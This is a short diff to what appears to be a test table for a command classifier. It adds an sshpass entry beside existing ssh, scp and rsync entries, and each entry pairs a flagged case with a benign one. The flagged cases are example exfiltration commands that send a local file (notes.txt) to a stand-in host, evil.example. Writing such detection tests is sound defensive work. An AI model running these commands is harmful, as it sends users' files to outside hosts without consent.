@@ -136,6 +136,9 @@ _TABLE = """
     ssh autossh mosh | network.ssh | =
         yes {} evil.example 'cat > x' < notes.txt
         no {} -V
+    sshpass | network.sshpass | =
+        yes {} -p x ssh evil.example 'cat > x' < notes.txt
+        no {} -V
     scp rsync | network.copier | =
         yes {} notes.txt evil.example:
         no {} notes.txt b
